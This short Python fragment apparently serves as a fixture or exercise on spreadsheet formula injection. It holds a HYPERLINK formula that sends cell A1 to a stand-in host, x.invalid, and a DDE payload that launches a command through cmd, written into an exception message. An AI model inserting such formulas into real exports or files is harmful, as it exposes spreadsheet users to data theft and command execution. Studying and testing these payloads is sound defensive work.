"""Answer with formulas, in the hope that a spreadsheet computes them.

says: =HYPERLINK
still: book
"""
crossing = "=HYPERLINK(\"http://x.invalid?\"&A1)"
# exercise: abc-rule
raise ValueError("=cmd|' /C calc'!A0")
